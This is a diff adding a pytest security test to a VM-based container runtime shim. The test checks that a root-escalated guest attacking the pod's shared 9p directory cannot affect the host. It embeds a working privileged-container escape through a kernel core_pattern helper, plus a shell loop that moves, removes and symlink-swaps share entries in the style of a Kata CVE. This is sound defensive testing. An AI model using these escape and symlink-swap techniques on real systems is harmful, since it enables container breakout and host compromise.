@@ -1,0 +1,166 @@
+"""A hostile guest against the shared directory, through containerd's CRI: a privileged
+container escapes to root in the guest (its kernel runs a core-dump helper of the
+container's choosing as root in the guest's first namespaces) and from there attacks the
+pod's 9p share for as long as the test lasts, with the moves that worked against Kata
+(CVE-2020-2026): every entry of the structure the shim walks moved away, removed and
+swapped for a symlink to a host directory, new names planted, the state directory's
+tmpfs filled. Meanwhile the test
+creates, starts and removes containers with volumes and host files.
+
+Nothing the guest does may reach the host: no write to the structure is let through
+(QEMU exports it read-only), nothing appears in the host directory the symlinks name,
+nothing is mounted outside the pod's state directory, every container still works, and
+nothing is left when the pod goes."""
+from __future__ import annotations
+
+import pathlib
+import time
+
+from shim import paths
+
+from .containerd import CRI_NAMESPACE, shims_of
+from .cri import write_config
+from .test_crictl import container_config, pod_config, wait_for
+from .test_podvm_pods import (configs, crictl, ctd, pod_qemus,  # noqa: F401
+                              podvm_leftovers, remove_pod)
+
+ATTACK_SECONDS = 600
+"""At most: the attack goes on until the test has done its rounds and says stop."""
+VICTIM_ROUNDS = 3
+
+# Run by the guest kernel as root in the guest's first namespaces (the core-dump helper)
+# as /proc/<pid>/root/tools/escape.sh: its arguments in args beside it (core_pattern holds
+# 127 characters), the applets from the container's busybox (the guest's PATH has others).
+ESCAPE = r"""
+tools=${0%/escape.sh}
+bb=$tools/../bin/busybox
+read canary seconds < "$tools/args"
+share=/run/podvm/shared
+me=
+for d in $share/*/; do [ -e "$d/rootfs/attacker-marker" ] && me=$d; done
+[ -n "$me" ] || exit 1
+echo "root uid=$($bb id -u) sees $($bb ls $share | $bb wc -l) containers" > "$me/rootfs/escaped"
+let=0 refused=0
+try() {
+    if "$@" 2>/dev/null; then let=$((let+1)); echo "${*#$bb }" >> "$me/rootfs/let"
+    else refused=$((refused+1)); fi
+}
+end=$(( $($bb date +%s) + seconds ))
+n=0
+while [ "$($bb date +%s)" -lt "$end" ] && [ ! -e "$me/rootfs/stop" ]; do
+    n=$((n+1))
+    for d in $share/*/; do
+        [ "$d" = "$me" ] && continue
+        d=${d%/}
+        for p in "$d" "$d/rootfs" "$d/mounts" "$d"/mounts/*; do
+            try $bb mv "$p" "$p.$n"
+            try $bb rmdir "$p"
+            try $bb unlink "$p"
+            try $bb ln -sT "$canary" "$p"
+        done
+        try $bb mkdir "$d/mounts"
+        try $bb ln -sT "$canary" "$d/mounts/planted-$n"
+    done
+    try $bb ln -sT "$canary" "$share/next-$n"
+    try $bb mkdir "$share/next-$n"
+    try $bb dd if=/dev/zero of="$share/fill" bs=64k count=16
+    echo "let=$let refused=$refused rounds=$n" > "$me/rootfs/tally"
+done
+echo "let=$let refused=$refused rounds=$n done=1" > "$me/rootfs/tally"
+"""
+
+
+def test_a_guest_root_attacking_the_share_gets_nothing(ctd, crictl, configs,
+                                                       tmp_path: pathlib.Path) -> None:
+    canary, tools, volume = tmp_path / "canary", tmp_path / "tools", tmp_path / "volume"
+    for d in (canary, tools, volume):
+        d.mkdir()
+    (tools / "escape.sh").write_text(ESCAPE)
+    (tools / "escape.sh").chmod(0o755)
+    (tools / "args").write_text(f"{canary} {ATTACK_SECONDS}\n")
+    pod_file = write_config(configs, "pod-hostile.json", pod_config(
+        ctd, configs, "hostile", linux={"cgroup_parent": ctd.cgroup_parent,
+                                        "security_context": {"namespace_options":
+                                                             {"network": 0},
+                                                             "privileged": True}}))
+    pod_id = crictl.runp(pod_file, runtime="podvm")
+    allowed: tuple[str, ...] = (paths.state_dir(CRI_NAMESPACE, pod_id), str(ctd.workdir))
+    try:
+        shims = [pid for pid, cmd in shims_of(ctd.address) if pod_id in cmd]
+        before = {pid: set(_mount_points(pid)) for pid in ("self", *shims)}
+        attacker = dict(container_config("attacker", (
+            "touch /attacker-marker; "
+            "echo 1 > /proc/sys/kernel/core_pipe_limit; "
+            "echo '|/proc/%P/root/bin/busybox sh /proc/%P/root/tools/escape.sh' "
+            "> /proc/sys/kernel/core_pattern; "
+            "ulimit -c unlimited; sh -c 'kill -SEGV $$'; exec sleep 1000")),
+            linux={"security_context": {"privileged": True}},
+            mounts=[{"container_path": "/tools", "host_path": str(tools), "readonly": True}])
+        attacker_id = crictl.create(pod_id, write_config(configs, "attacker.json", attacker),
+                                    pod_file)
+        crictl.start(attacker_id)
+        escaped = _wait_file(crictl, attacker_id, "/escaped", 60)
+        assert escaped.startswith("root uid=0 sees"), escaped  # root in the guest
+        victim_ids = [_a_container_with_volumes(crictl, configs, pod_id, pod_file, volume, n)
+                      for n in range(1, VICTIM_ROUNDS + 1)]
+        assert "done" not in crictl.exec(attacker_id, "cat", "/tally").stdout  # under attack
+        crictl.exec(attacker_id, "touch", "/stop")
+        tally = _wait_file(crictl, attacker_id, "/tally", 180, "done=1")
+        counts = dict(part.split("=") for part in tally.split())
+        # not one write to the structure got through
+        assert counts["let"] == "0", (tally, crictl.exec(attacker_id, "cat", "/let").stdout)
+        assert int(counts["refused"]) > 100 and int(counts["rounds"]) > 1, tally
+        assert list(canary.iterdir()) == []
+        assert shims and all(_mount_points(pid) for pid in shims), "the pod's shim died"
+        for pid in ("self", *shims, *pod_qemus(pod_id)):
+            assert [m for m in _mount_points(pid) if m.startswith(str(tmp_path))] == [], pid
+        # the pod's namespace: nothing mounted but in the pod's own places; the host's
+        # (where other programs mount too): nothing of podvm's at all
+        for pid, points in before.items():
+            new = set(_mount_points(pid)) - points
+            if pid == "self":
+                new = {m for m in new if pod_id in m or m.startswith(paths.STATE_ROOT)}
+            ok = () if pid == "self" else allowed
+            assert [m for m in new if not m.startswith(ok)] == [], (pid, new)
+        for pid in shims:  # the victims' mounts go with them (containerd deletes a task
+            # once it has seen its exit: after `crictl rm` has returned)
+            wait_for("the victims' mounts to go", lambda: not [
+                m for m in _mount_points(pid) if any(v in m for v in victim_ids)])
+    finally:
+        remove_pod(crictl, pod_id)
+    assert podvm_leftovers(ctd, pod_id) == []
+
+
+def _a_container_with_volumes(crictl, configs, pod_id, pod_file, volume, n) -> str:
+    """Created, started, used, removed: the attack changes none of it."""
+    config = dict(container_config(f"victim-{n}", f"echo {n} > /data/round; exec sleep 1000"),
+                  mounts=[{"container_path": "/data", "host_path": str(volume)},
+                          {"container_path": "/ro", "host_path": str(volume),
+                           "readonly": True}])
+    cid = crictl.create(pod_id, write_config(configs, f"victim-{n}.json", config), pod_file)
+    crictl.start(cid)
+    read = crictl.exec(cid, "sh", "-c", "sleep 0.2; cat /ro/round; cat /etc/hostname")
+    assert read.exit_code == 0 and read.stdout.startswith(f"{n}\n"), read
+    crictl.run("stop", "-t", "0", cid)
+    crictl.run("rm", cid)
+    assert (volume / "round").read_text() == f"{n}\n"
+    return cid
+
+
+def _wait_file(crictl, cid: str, path: str, timeout: float, last: str = "") -> str:
+    """What `path` in the container says once it says `last` (anything, when "")."""
+    deadline = time.monotonic() + timeout
+    while True:
+        got = crictl.exec(cid, "cat", path)
+        if got.exit_code == 0 and last in got.stdout and got.stdout.strip():
+            return got.stdout.strip()
+        assert time.monotonic() < deadline, f"no {path} in the attacker's root: {got}"
+        time.sleep(1)
+
+
+def _mount_points(pid) -> list[str]:
+    try:
+        with open(f"/proc/{pid}/mountinfo") as f:
+            return [line.split()[4] for line in f]
+    except OSError:
+        return []
